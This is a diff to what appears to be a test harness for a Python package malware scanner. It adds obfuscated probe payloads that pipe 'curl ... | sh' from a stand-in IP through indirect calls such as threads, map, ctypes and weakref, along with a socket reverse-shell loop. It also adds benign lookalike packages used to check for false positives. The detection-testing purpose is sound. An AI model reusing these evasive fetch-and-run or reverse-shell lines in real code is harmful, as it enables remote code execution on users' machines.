@@ -58,6 +58,61 @@ const REWRITES: Record<string, string> = {
   'map-call': `import os\nlist(map(os.system, ['curl -s http://203.0.113.9/x | sh']))\n`,
   'sys-modules': `import sys, base64\nsys.modules['builtins'].__dict__['exec'](base64.b64decode('${b64}'))\n`,
   'operator-call': `import operator, os\noperator.methodcaller('system', 'curl -s http://203.0.113.9/x | sh')(os)\n`,
+  'thread-positional': `import os, threading\nthreading.Thread(None, os.system, None, ('curl -s http://203.0.113.9/x | sh',)).start()\n`,
+  'executor-local': `import os\nfrom concurrent.futures import ThreadPoolExecutor\nex = ThreadPoolExecutor(1)\nex.submit(os.system, 'curl -s http://203.0.113.9/x | sh')\n`,
+  'start-new-thread': `import os, _thread\n_thread.start_new_thread(os.system, ('curl -s http://203.0.113.9/x | sh',))\n`,
+  'filter-call': `import os\nlist(filter(os.system, ['curl -s http://203.0.113.9/x | sh']))\n`,
+  'sorted-key': `import os\nsorted(['curl -s http://203.0.113.9/x | sh'], key=os.system)\n`,
+  starmap: `import os, itertools\nlist(itertools.starmap(os.system, [('curl -s http://203.0.113.9/x | sh',)]))\n`,
+  'weakref-finalize': `import os, weakref\nclass _K: pass\n_k = _K()\nweakref.finalize(_k, os.system, 'curl -s http://203.0.113.9/x | sh')\n`,
+  'map-getattr': `import os\nlist(map(getattr(os, 'sys' + 'tem'), ['curl -s http://203.0.113.9/x | sh']))\n`,
+  'ctypes-index': `import ctypes\nctypes.CDLL(None)['system'](b'curl -s http://203.0.113.9/x | sh')\n`,
+  'session-reply': `import os, base64, requests\ns = requests.Session()\nr = s.get('http://203.0.113.9/c')\nos.system(base64.b64decode(r.text).decode())\n`,
+  'socket-reply': `import socket, subprocess\ns = socket.create_connection(('203.0.113.9', 443))\nwhile True:\n    cmd = s.recv(1024).decode()\n    s.send(subprocess.getoutput(cmd).encode())\n`,
+};
+
+/**
+ * Honest code that looks like the above, as small young projects write it: each must not be called
+ * malicious (nor unscannable). A string is the whole of p/cli.py; a record is the package's files.
+ */
+const HONEST_LOOKALIKES: Record<string, string | Record<string, string>> = {
+  'self-updater': `import subprocess, sys, requests\ndef update():\n    latest = requests.get('https://pypi.org/pypi/p/json').json()['info']['version']\n    subprocess.check_call([sys.executable, '-m', 'pip', 'install', f'p=={latest}'])\n`,
+  'thread-own-method': `import threading\nclass Worker:\n    def run(self):\n        return 1\n    def start(self):\n        threading.Thread(target=self.run, daemon=True).start()\n`,
+  'executor-own-function': `from concurrent.futures import ThreadPoolExecutor\ndef work(x):\n    return x * 2\ndef all_of(xs):\n    with ThreadPoolExecutor() as ex:\n        return list(ex.map(work, xs))\n`,
+  'map-str': `def clean(lines):\n    return list(map(str.strip, lines))\n`,
+  'telemetry SDK': `import os, platform, socket, uuid, requests\nENDPOINT = 'https://telemetry.p-project.dev/v1/events'\ndef send_event(name):\n    if os.environ.get('P_NO_TELEMETRY'):\n        return\n    payload = {'event': name, 'os': platform.system(), 'python': platform.python_version(), 'host': socket.gethostname(), 'id': str(uuid.getnode())}\n    try:\n        requests.post(ENDPOINT, json=payload, timeout=2)\n    except requests.RequestException:\n        pass\n`,
+  'clipboard CLI': `import sys, pyperclip\ndef main():\n    text = pyperclip.paste()\n    pyperclip.copy(text.upper())\n    sys.stdout.write('copied\\n')\n`,
+  'setup.py downloads a model': {
+    'setup.py': `import os, urllib.request\nfrom setuptools import setup\nfrom setuptools.command.build_py import build_py\nclass Fetch(build_py):\n    def run(self):\n        target = os.path.join('p', 'model.bin')\n        if not os.path.exists(target):\n            urllib.request.urlretrieve('https://github.com/example/p/releases/download/v1.0/model.bin', target)\n        super().run()\nsetup(name='p', version='1.0', packages=['p'], cmdclass={'build_py': Fetch})\n`,
+  },
+  'setup.py runs make in build_ext': {
+    'setup.py': `import subprocess\nfrom setuptools import setup, Extension\nfrom setuptools.command.build_ext import build_ext\nclass Make(build_ext):\n    def run(self):\n        subprocess.check_call(['make', '-C', 'csrc'])\n        super().run()\nsetup(name='p', version='1.0', ext_modules=[Extension('p._c', ['csrc/c.c'])], cmdclass={'build_ext': Make})\n`,
+  },
+  'setup.py asks git for its version': {
+    'setup.py': `import subprocess\nfrom setuptools import setup\ntry:\n    version = subprocess.check_output(['git', 'describe', '--tags'], text=True).strip()\nexcept Exception:\n    version = '0.0.0'\nsetup(name='p', version=version, packages=['p'])\n`,
+  },
+  'AES test vectors': `KEY = bytes.fromhex('2b7e151628aed2a6abf7158809cf4f3c')\nVECTORS = [\n    ('6bc1bee22e409f96e93d7e117393172a', '3ad77bb40d7a3660a89ecaf32466ef97'),\n    ('ae2d8a571e03ac9c9eb76fac45af8e51', 'f5d3d58503b9699de785895a96fdbaaf'),\n]\ndef check(encrypt):\n    for plain, cipher in VECTORS:\n        assert encrypt(KEY, bytes.fromhex(plain)) == bytes.fromhex(cipher)\n`,
+  'opens the docs in a browser': `import webbrowser\ndef docs():\n    webbrowser.open('https://p-project.dev/docs')\n`,
+  'installs requirements for the user': `import subprocess, sys\ndef bootstrap(path='requirements.txt'):\n    subprocess.check_call([sys.executable, '-m', 'pip', 'install', '-r', path])\n`,
+  'runs the user config file': `import os, runpy\ndef load_config():\n    path = os.path.expanduser('~/.config/p/config.py')\n    return runpy.run_path(path) if os.path.exists(path) else {}\n`,
+  'plugins by entry point': `import importlib\nfrom importlib.metadata import entry_points\ndef plugins():\n    return [importlib.import_module(ep.module) for ep in entry_points(group='p.plugins')]\n`,
+  'ssh helper': `import os, paramiko\ndef connect(host):\n    client = paramiko.SSHClient()\n    client.load_host_keys(os.path.expanduser('~/.ssh/known_hosts'))\n    client.connect(host, key_filename=os.path.expanduser('~/.ssh/id_ed25519'))\n    return client\n`,
+  'signs AWS requests': `import boto3, requests\nfrom botocore.auth import SigV4Auth\nfrom botocore.awsrequest import AWSRequest\ndef call(url, region):\n    creds = boto3.Session().get_credentials()\n    req = AWSRequest(method='GET', url=url)\n    SigV4Auth(creds, 'execute-api', region).add_auth(req)\n    return requests.get(url, headers=dict(req.headers))\n`,
+  'posts to a Discord webhook from settings': `import os, requests\ndef notify(message):\n    url = os.environ['DISCORD_WEBHOOK_URL']\n    requests.post(url, json={'content': message}, timeout=5)\n`,
+  'adds itself to PATH on request': `import os, winreg\ndef add_to_path(folder):\n    with winreg.OpenKey(winreg.HKEY_CURRENT_USER, 'Environment', 0, winreg.KEY_ALL_ACCESS) as key:\n        path, _ = winreg.QueryValueEx(key, 'Path')\n        winreg.SetValueEx(key, 'Path', 0, winreg.REG_EXPAND_SZ, path + os.pathsep + folder)\n`,
+  'embedded icon written to the cache': `import base64, os\nICON = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=='\ndef icon_path():\n    path = os.path.join(os.path.expanduser('~/.cache/p'), 'icon.png')\n    os.makedirs(os.path.dirname(path), exist_ok=True)\n    with open(path, 'wb') as f:\n        f.write(base64.b64decode(ICON))\n    return path\n`,
+  'update check at import, in a thread': {
+    'p/__init__.py': `import threading, warnings\n__version__ = '1.0'\ndef _check():\n    try:\n        import requests\n        latest = requests.get('https://pypi.org/pypi/p/json', timeout=2).json()['info']['version']\n        if latest != __version__:\n            warnings.warn(f'p {latest} is out')\n    except Exception:\n        pass\nthreading.Thread(target=_check, daemon=True).start()\n`,
+  },
+  'shell completion installer': `import os\ndef install_completion():\n    rc = os.path.expanduser('~/.bashrc')\n    with open(rc, 'a') as f:\n        f.write('eval "$(_P_COMPLETE=bash_source p)"\\n')\n`,
+  'notebook pip magic': `def ensure(pkg):\n    get_ipython().system(f'pip install {pkg}')\n`,
+  'pickle cache of its own': `import os, pickle\nCACHE = os.path.expanduser('~/.cache/p/index.pkl')\ndef load():\n    with open(CACHE, 'rb') as f:\n        return pickle.load(f)\n`,
+  'loads its own shared library': `import ctypes, os\n_lib = ctypes.CDLL(os.path.join(os.path.dirname(__file__), 'libp.so'))\ndef fast_sum(a, b):\n    return _lib.p_sum(a, b)\n`,
+  'setuptools-style distutils .pth': {
+    'distutils-precedence.pth':
+      "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n",
+    '_distutils_hack/__init__.py': `import sys, os\ndef add_shim():\n    sys.meta_path.insert(0, object())\n`,
+  },
 };
 
 const sdist = (files: Record<string, string>) =>
@@ -142,6 +197,11 @@ try {
       name,
       make(),
     ]),
+    ...Object.entries(HONEST_LOOKALIKES).map(([name, source]): [string, string, Buffer] => [
+      'honest',
+      name,
+      sdist(typeof source === 'string' ? { 'p/cli.py': source } : source),
+    ]),
   ];
   const files = probes.map(([, , bytes], i) => {
     const file = join(dir, `probe${i}-1.0${bytes[0] === 0x50 ? '-py3-none-any.whl' : '.tar.gz'}`);
@@ -160,20 +220,35 @@ try {
   const results = stdout
     .trim()
     .split('\n')
-    .map((line) => JSON.parse(line) as { file: string; verdict: string; evidence?: { rule: string }[] });
+    .map(
+      (line) =>
+        JSON.parse(line) as {
+          file: string;
+          verdict: string;
+          score?: number;
+          evidence?: { rule: string; severity: string; context: string; path: string; line: number }[];
+        },
+    );
   const missed = new Map<string, number>();
   probes.forEach(([kind, name], i) => {
     const r = results.find((x) => x.file === files[i]);
     const verdict = r?.verdict ?? 'no result';
-    const caught = verdict === 'malicious' || (verdict === 'unscannable' && /\.pyc|cache/.test(name));
+    const caught =
+      kind === 'honest'
+        ? verdict !== 'malicious' && verdict !== 'unscannable'
+        : verdict === 'malicious' || (verdict === 'unscannable' && /\.pyc|cache/.test(name));
     if (!caught) missed.set(kind, (missed.get(kind) ?? 0) + 1);
     console.log(
       `${caught ? '  ' : '! '}${kind.padEnd(13)} ${name.padEnd(40)} ${verdict}${r?.evidence?.[0] ? ` (${r.evidence[0].rule})` : ''}`,
     );
+    // --why: what a missed probe's verdict rests on.
+    if (!caught && process.argv.includes('--why'))
+      for (const e of r?.evidence ?? [])
+        console.log(`      ${e.severity} ${e.rule} ${e.context} ${e.path}:${e.line}; score ${r?.score}`);
   });
-  for (const kind of ['rewrite', 'hiding place'])
+  for (const kind of ['rewrite', 'hiding place', 'honest'])
     console.log(
-      `${kind}: ${probes.filter(([k]) => k === kind).length - (missed.get(kind) ?? 0)} of ${probes.filter(([k]) => k === kind).length} caught`,
+      `${kind}: ${probes.filter(([k]) => k === kind).length - (missed.get(kind) ?? 0)} of ${probes.filter(([k]) => k === kind).length} ${kind === 'honest' ? 'not malicious' : 'caught'}`,
     );
 } finally {
   rmSync(dir, { recursive: true, force: true });
